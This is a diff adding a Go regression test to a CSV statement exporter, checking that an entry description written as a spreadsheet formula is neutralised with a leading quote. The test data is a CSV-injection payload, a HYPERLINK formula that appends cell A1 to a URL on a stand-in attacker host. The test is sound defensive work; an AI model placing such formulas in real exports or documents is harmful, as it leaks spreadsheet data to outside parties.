@@ -81,3 +81,22 @@ func TestHoursMinutes(t *testing.T) {
 		}
 	}
 }
+
+// TestWriteCSVNeutralisesFormulas reproduces issue 9 #8: an hour description
+// "=HYPERLINK(…)" became a live formula in the statement CSV.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	h, st := exportFixture(t)
+	st.Entries[0].Description = `=HYPERLINK("https://evil.example/?"&A1,"Details")`
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, h, st, werktijden(t).Location()); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rows[1][10]; got != `'=HYPERLINK("https://evil.example/?"&A1,"Details")` {
+		t.Fatalf("description cell %q is a formula", got)
+	}
+}
